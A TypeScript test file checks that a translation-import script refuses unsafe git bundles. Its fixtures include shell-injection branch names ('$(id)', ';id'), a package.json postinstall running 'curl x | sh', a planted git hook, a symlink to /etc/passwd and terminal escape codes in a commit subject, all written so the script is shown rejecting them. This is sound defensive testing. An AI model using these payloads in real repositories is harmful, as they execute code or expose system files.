import { spawnSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { receiveTranslations } from '../../scripts/i18n/receive.ts'
import { callNow, TranslatorClone } from '../support/translator-clone.ts'

describe('npm run i18n:receive takes a file only when it holds a translation and nothing else', () => {
  let team: TranslatorClone
  const senders: string[] = []
  beforeAll(() => {
    team = new TranslatorClone({ withRemote: false })
    team.git('branch', 'release')
  })
  afterAll(() => {
    team.remove()
    for (const folder of senders) rmSync(folder, { recursive: true, force: true })
  })

  const branch = 'translations/fr-2030-01-02-0905'
  type Sender = { git: (...args: string[]) => string; write: (path: string, text: string) => void }

  /** A file as anyone with a clone of the team's repository can write it: `build` makes the commits, `refs` are bundled. */
  function bundle(build: (sender: Sender) => void, refs: string[]): string {
    const folder = mkdtempSync(join(tmpdir(), 'studio-sender-'))
    senders.push(folder)
    spawnSync('git', ['clone', '--quiet', team.root, folder])
    const git = (...args: string[]) => {
      const result = spawnSync('git', args, { cwd: folder, encoding: 'utf8' })
      if (result.status !== 0) throw new Error(`git ${args.join(' ')}: ${result.stderr}`)
      return result.stdout.trim()
    }
    const write = (path: string, text: string) => {
      mkdirSync(dirname(join(folder, path)), { recursive: true })
      writeFileSync(join(folder, path), text)
    }
    git('config', 'user.name', 'Sender')
    git('config', 'user.email', 'sender@example.com')
    build({ git, write })
    git('bundle', 'create', '--quiet', 'sent.bundle', ...refs, `^${team.git('rev-parse', 'main')}`)
    return join(folder, 'sent.bundle')
  }

  /** A French translation committed on `name`, with `subject`. */
  const translation =
    (name: string, subject = 'French translations: 1 text from the translation workspace') =>
    ({ git, write }: Sender) => {
      git('checkout', '--quiet', '-b', name, 'main')
      write('locales/fr/home.json', team.read('locales/fr/home.json').replace(callNow, callNow.replace('nous', 'nous vite')))
      git('commit', '--quiet', '-am', subject)
    }

  /** Every branch and tag of the team's repository, where it points, and whether a fetch left a note. */
  const state = () => ({
    refs: team.git('for-each-ref', '--format=%(refname) %(objectname)'),
    fetched: existsSync(join(team.root, '.git/FETCH_HEAD')),
  })

  async function expectRefused(file: string, reasons: RegExp[]) {
    const before = state()
    expect(await receiveTranslations(team.root, file)).toEqual({
      status: 'refused',
      reasons: reasons.map((reason) => expect.stringMatching(reason)),
    })
    expect(state()).toEqual(before)
  }

  it('refuses branches that npm run i18n:send does not make, and moves none of the team’s', async () => {
    const file = bundle(
      (sender) => {
        translation('translations/fr')(sender)
        sender.git('branch', '--force', 'main')
        sender.git('branch', '--force', 'release')
      },
      ['refs/heads/main', 'refs/heads/release'],
    )
    await expectRefused(file, [/^refs\/heads\/main is not a branch npm run i18n:send makes/, /^refs\/heads\/release is not/])
  })

  it('refuses a branch of the same name as one of the team’s', async () => {
    team.git('branch', branch, 'main')
    try {
      await expectRefused(bundle(translation(branch), [`refs/heads/${branch}`]), [
        /^the branch translations\/fr-2030-01-02-0905 exists here already/,
      ])
    } finally {
      team.git('branch', '--delete', '--force', branch)
    }
  })

  it('refuses a file with a tag, and makes no tag', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        sender.git('tag', 'v9.9')
      },
      [`refs/heads/${branch}`, 'refs/tags/v9.9'],
    )
    await expectRefused(file, [/^refs\/tags\/v9\.9 is not a branch/])
    expect(team.git('tag', '--list')).toBe('')
  })

  it('refuses branch names that would run commands if pasted into a shell', async () => {
    const names = ['translations/fr$(id)', `${branch};id`]
    const file = bundle(
      (sender) => names.forEach((name) => translation(name)(sender)),
      names.map((name) => `refs/heads/${name}`),
    )
    await expectRefused(file, [/^refs\/heads\/translations\/fr\$\(id\) is not/, /^refs\/heads\/translations\/fr-2030-01-02-0905;id is not/])
  })

  it('refuses a commit that changes anything but translations, naming each file', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        sender.write('package.json', team.read('package.json').replace('"private"', '"postinstall": "curl x | sh", "private"'))
        sender.write('scripts/hooks/post-checkout', '#!/bin/sh\ntouch "$HOME/hooked"\n')
        sender.git('add', '-A')
        sender.git('commit', '--quiet', '-m', 'French translations')
      },
      [`refs/heads/${branch}`],
    )
    // The hook would run if the team's git looked for hooks in the received tree.
    team.git('config', 'core.hooksPath', 'scripts/hooks')
    try {
      await expectRefused(file, [
        /^package\.json is not a file a translation may change/,
        /^scripts\/hooks\/post-checkout is not a file a translation may change/,
      ])
    } finally {
      team.git('config', '--unset', 'core.hooksPath')
    }
  })

  it('refuses a symbolic link among the translations', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        symlinkSync('/etc/passwd', join(sender.git('rev-parse', '--show-toplevel'), 'locales/fr/secrets.json'))
        sender.git('add', '-A')
        sender.git('commit', '--quiet', '-m', 'French translations')
      },
      [`refs/heads/${branch}`],
    )
    await expectRefused(file, [/^locales\/fr\/secrets\.json is a symbolic link$/])
  })

  it('takes a translation as its branch, runs no hook, prints its files and a merge command safe to paste, with no terminal escapes', async () => {
    const subject = 'French translations\u001b]0;pwned\u0007\u001b[2J: 1 text'
    const file = bundle(translation(branch, subject), [`refs/heads/${branch}`])
    const hooked = join(team.root, 'hooked')
    for (const hook of ['post-checkout', 'reference-transaction']) {
      team.write(`.git/hooks/${hook}`, `#!/bin/sh\ntouch '${hooked}'\n`)
      chmodSync(join(team.root, `.git/hooks/${hook}`), 0o755)
    }

    const { status, output } = team.run(`node scripts/i18n.ts receive ${file}`)

    expect(output).not.toContain('\u001b')
    expect(output).toContain(`Branch ${branch}: French translations: 1 text\n`)
    expect(output).toContain('It changes 1 file:\n  locales/fr/home.json\n')
    expect(output).toContain(`To take it: git merge ${branch} (or push it`)
    expect(status).toBe(0)
    expect(team.git('show', `${branch}:locales/fr/home.json`)).toContain('Appelez-nous vite')
    expect(existsSync(hooked)).toBe(false)
  })
})
